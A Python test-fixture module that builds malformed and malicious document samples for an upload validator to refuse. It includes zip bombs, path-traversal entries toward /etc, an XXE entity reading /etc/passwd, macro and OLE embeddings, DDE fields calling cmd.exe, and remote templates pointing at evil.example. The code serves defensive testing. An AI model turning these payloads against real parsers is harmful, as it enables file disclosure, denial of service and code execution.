"""Builders of files that must not come in."""

import io
import zipfile

CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(body="", *, extra=(), types=CONTENT_TYPES, head='<?xml version="1.0" encoding="UTF-8"?>', raw=None):
    """A DOCX with this body; `extra` = further (name, content)."""
    document = raw if raw is not None else f"{head}<w:document {W}><w:body>{body}</w:body></w:document>"
    return archive(
        [("[Content_Types].xml", types), ("_rels/.rels", RELATIONS), ("word/document.xml", document), *extra]
    )


def odt(body="", *, extra=()):
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        f'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:body><office:text>{body}</office:text>'
        "</office:body></office:document-content>"
    )
    return archive([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", content), *extra])


def archive(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in files:
            package.writestr(name, content)
    return buffer.getvalue()


def relation(kind, target):
    return (
        "word/_rels/document.xml.rels",
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>',
    )


ENTITIES = (
    '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f"<w:document {W}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
)
EXTERNAL_ENTITY = (
    '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
)

# Name → (bytes, reason of refusal).
REFUSED = {
    "empty": (b"", "empty"),
    "zip_bomb": (docx(paragraph(" " * 15_000_000)), "bomb"),
    "huge_sum": (archive([("[Content_Types].xml", CONTENT_TYPES), ("a.bin", bytes(range(256)) * 90_000)]), "bomb"),
    "too_many_parts": (docx(extra=[(f"p{n}.xml", "<a/>") for n in range(600)]), "too_many_parts"),
    "parent_path": (docx(extra=[("../../etc/cron.d/x", "x")]), "path"),
    "absolute_path": (docx(extra=[("/etc/passwd", "x")]), "path"),
    "backslash_path": (docx(extra=[("word\\..\\..\\x", "x")]), "path"),
    "entities": (docx(raw=ENTITIES), "entities"),
    "external_entity": (docx(raw=EXTERNAL_ENTITY), "entities"),
    "entities_in_utf16": (
        docx(raw=('<?xml version="1.0" encoding="UTF-16"?>' + ENTITIES).encode("utf-16")),
        "entities",
    ),
    "macro": (docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]), "macro"),
    "renamed_docm": (docx(types=CONTENT_TYPES.replace("wordprocessingml.document.main", "macroEnabled.main")), "macro"),
    "ole_object": (docx(extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1x")]), "embedded"),
    "remote_template": (docx(extra=[relation("attachedTemplate", "https://evil.example/x.dotm")]), "remote"),
    "unc_template": (docx(extra=[relation("attachedTemplate", "file://evil/share/x.dotm")]), "remote"),
    "remote_object": (docx(extra=[relation("oleObject", "http://evil.example/x")]), "remote"),
    "dde_field": (docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"), "dde"),
    "dde_in_pieces": (
        docx("<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE cmd x</w:instrText></w:r></w:p>"),
        "dde",
    ),
    "dde_in_simple_field": (docx('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'), "dde"),
    "odt_macro": (odt(extra=[("Basic/Standard/Module1.xml", "<a/>")]), "macro"),
    "odt_script": (odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), "macro"),
    "odt_dde": (odt("<text:dde-connection>x</text:dde-connection>"), "dde"),
    "odt_remote_section": (
        odt('<text:section><text:section-source xlink:href="https://evil.example/"/></text:section>'),
        "remote",
    ),
    "old_word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "old_word"),
    "rtf": (b"{\\rtf1 x}", "rtf"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "markup"),
    "html": (b"\xef\xbb\xbf \n<!DOCTYPE html><p>x", "markup"),
    "program": (b"\x7fELF\x02\x01\x01\x00", "unknown"),
    "truncated_zip": (docx(paragraph("x"))[:-30], "broken"),
    "pdf_with_script": (b"%PDF-1.7\n1 0 obj << /S /JavaScript /JS (x) >>\n%%EOF", "script"),
    "pdf_without_end": (b"%PDF-1.7\n" + b"x" * 3000, "broken"),
    "picture_as_document": (b"\x89PNG\r\n\x1a\n", "not_allowed"),
}
